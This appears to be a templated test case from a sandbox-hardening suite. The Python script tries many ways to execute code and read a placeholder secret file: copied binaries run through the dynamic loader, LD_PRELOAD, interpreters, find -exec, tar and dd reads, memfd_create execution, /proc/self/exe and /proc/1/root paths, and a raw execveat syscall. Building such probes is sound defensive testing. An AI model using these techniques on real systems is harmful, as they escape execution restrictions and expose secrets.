# attack: programs/by-the-loader
# oracle: write-file
# imports: os, subprocess, ctypes
# tools:
# source: own
# note: files of the scratch folder, memory and descriptors, run by the loader, interpreters, LD_PRELOAD; what runs reaches for the host
import ctypes, glob, os, shutil, subprocess
aim = "open('{{PWN_FILE}}', 'w').close()"
secret = "cat {{SECRET_FILE}}"
loaders = glob.glob("/lib64/ld-linux*") + glob.glob("/lib/ld-linux*")
for name in ("touch", "cat", "sh"):
    found = shutil.which(name)
    if found:
        shutil.copy(found, name)
        os.chmod(name, 0o755)
with open("script", "w") as f:
    f.write("#!/bin/sh\ntouch {{PWN_FILE}}\ncat {{SECRET_FILE}}\n")
os.chmod("script", 0o755)
libc = ctypes.CDLL(None, use_errno=True)
lines = [["./touch", "{{PWN_FILE}}"], ["./cat", "{{SECRET_FILE}}"], ["./script"], ["sh", "script"], ["bash", "-c", ". ./script"]]
lines += [[loader, *words] for loader in loaders for words in (["./touch", "{{PWN_FILE}}"], ["./cat", "{{SECRET_FILE}}"], ["--preload", "./touch", "./cat", "{{SECRET_FILE}}"])]
lines += [[*words] for words in (["env", "LD_PRELOAD=./touch", "cat", "{{SECRET_FILE}}"], ["python3", "-c", aim], ["perl", "-e", "open(F, '>', '{{PWN_FILE}}')"],
          ["awk", "BEGIN { print > \"{{PWN_FILE}}\" }"], ["find", "/", "-name", "secret.txt", "-exec", "cat", "{}", ";"], ["tar", "-cf", "-", "{{SECRET_FILE}}"],
          ["dd", "if={{SECRET_FILE}}"], ["cp", "{{SECRET_FILE}}", "x"], ["ln", "{{SECRET_FILE}}", "x"])]
for words in lines:
    try:
        done = subprocess.run(words, timeout=1, capture_output=True, text=True, errors="replace", stdin=subprocess.DEVNULL)
        print(done.stdout[-300:], done.stderr[-300:])
    except (OSError, subprocess.TimeoutExpired) as error:
        print(words[0], error)
try:
    memory = os.memfd_create("x", 0)
    os.write(memory, open("script", "rb").read())
    os.execve(memory, ["x"], {})
except OSError as error:
    print(error)
for path in ("/proc/self/exe", "/proc/self/fd/0", "/dev/fd/0", "/proc/1/root/bin/sh", "/proc/self/root/bin/sh"):
    try:
        print(subprocess.run([path, "-c", secret], timeout=1, capture_output=True, text=True).stdout)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(path, error)
libc.syscall(322, -100, b"/bin/sh", None, None, 0)
print(ctypes.get_errno())
